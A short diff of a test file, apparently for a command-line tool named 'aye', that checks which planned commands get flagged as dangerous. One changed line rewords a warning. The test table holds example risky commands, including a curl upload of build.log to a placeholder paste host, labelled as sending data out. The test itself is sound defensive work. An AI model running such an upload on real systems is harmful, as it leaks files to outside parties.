@@ -61,7 +61,7 @@ describe("aye fix --yes and dangerous plans", () => {
   });
 
   test.each([
-    ["scripts/cleanup.sh --all", "aye does not know what `cleanup.sh` does"],
+    ["scripts/cleanup.sh --all", "does what aye does not know: `cleanup.sh`"],
     ["make clean", "overwrites or deletes files or data"],
     ["curl -F file=@build.log https://paste.example.invalid", "sends data out"],
     ["nohup npm run dev &", "leaves something running after aye"],
